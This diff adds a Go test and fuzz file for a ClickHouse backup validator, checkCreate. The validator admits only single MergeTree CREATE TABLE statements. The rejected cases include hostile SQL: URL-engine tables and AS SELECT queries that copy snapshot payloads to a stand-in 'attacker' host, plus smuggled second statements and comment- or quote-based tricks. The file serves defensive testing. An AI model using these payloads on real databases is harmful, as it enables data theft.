@@ -1,0 +1,65 @@
+package chbackup
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestCheckCreate(t *testing.T) {
+	good := []string{
+		"CREATE TABLE guardian.snapshots (`customer_id` String, `ts` DateTime, `payload` String) ENGINE = MergeTree PARTITION BY toDate(ts) ORDER BY (customer_id, ts) SETTINGS index_granularity = 8192",
+		"CREATE TABLE guardian.t (`d` Date, `x` UInt64) ENGINE = MergeTree(d, (x), 8192)",
+		"CREATE TABLE guardian.t (`x` Enum8('SELECT' = 1, 'AS' = 2), `y` String DEFAULT 'ENGINE = URL', `z` UInt8 ALIAS x) ENGINE = ReplacingMergeTree() ORDER BY x TTL toDateTime(x) + toIntervalDay(90)",
+		"CREATE TABLE `guardian`.`select` (`as` String) ENGINE = MergeTree() ORDER BY tuple()",
+	}
+	for _, s := range good {
+		if err := checkCreate(s); err != nil {
+			t.Errorf("refused %q: %v", s, err)
+		}
+	}
+	bad := map[string]string{
+		"another engine":            "CREATE TABLE guardian.zz (`p` String) ENGINE = URL('http://attacker/', TSV)",
+		"as select":                 "CREATE TABLE guardian.zz ENGINE = URL('http://attacker/', TSV) AS SELECT payload FROM guardian.snapshots",
+		"mergetree as select":       "CREATE TABLE guardian.zz ENGINE = MergeTree ORDER BY tuple() AS SELECT * FROM url('http://a/', TSV, 'x String')",
+		"as another table":          "CREATE TABLE guardian.zz AS guardian.snapshots ENGINE = MergeTree ORDER BY tuple()",
+		"subquery in a default":     "CREATE TABLE guardian.zz (`p` String DEFAULT (SELECT any(payload) FROM guardian.snapshots)) ENGINE = MergeTree ORDER BY tuple()",
+		"two engines":               "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p ENGINE = File(TSV)",
+		"no engine":                 "CREATE TABLE guardian.zz (`p` String)",
+		"distributed":               "CREATE TABLE guardian.zz (`p` String) ENGINE = Distributed(c, guardian, snapshots)",
+		"a second statement":        "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p; SELECT 1",
+		"a line comment":            "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p -- '\nENGINE = URL('http://a/', TSV)",
+		"a block comment":           "CREATE TABLE guardian.zz (`p` String) /* ' */ ENGINE = MergeTree ORDER BY p",
+		"an unclosed quote":         "CREATE TABLE guardian.zz (`p String) ENGINE = MergeTree ORDER BY p",
+		"unbalanced parentheses":    "CREATE TABLE guardian.zz (`p` String)) ENGINE = MergeTree ORDER BY p",
+		"an escaped quote hides":    `CREATE TABLE guardian.zz (` + "`p`" + ` String DEFAULT 'a\'') ENGINE = URL('http://a/', TSV) --'`,
+		"engine in the column list": "CREATE TABLE guardian.zz (`p` String, ENGINE = MergeTree) ENGINE = URL('http://a/', TSV)",
+	}
+	for name, s := range bad {
+		if err := checkCreate(s); err == nil {
+			t.Errorf("%s: accepted %q", name, s)
+		} else if strings.Contains(err.Error(), "attacker") {
+			t.Errorf("%s: the error quotes the statement: %v", name, err)
+		}
+	}
+}
+
+func FuzzCheckCreate(f *testing.F) {
+	f.Add("CREATE TABLE guardian.t (`x` UInt64) ENGINE = MergeTree ORDER BY x")
+	f.Add("CREATE TABLE guardian.zz ENGINE = URL('http://a/', TSV) AS SELECT 1")
+	f.Fuzz(func(t *testing.T, s string) {
+		if checkCreate(s) != nil {
+			return
+		}
+		// Whatever passes has one MergeTree engine at the top level and no
+		// query: every byte outside quotes is read once.
+		words, err := sqlWords(s)
+		if err != nil {
+			t.Fatalf("accepted %q though it does not tokenize: %v", s, err)
+		}
+		for _, w := range words {
+			if strings.EqualFold(w.text, "SELECT") || (w.depth == 0 && strings.EqualFold(w.text, "AS")) {
+				t.Fatalf("accepted %q with %s", s, w.text)
+			}
+		}
+	})
+}
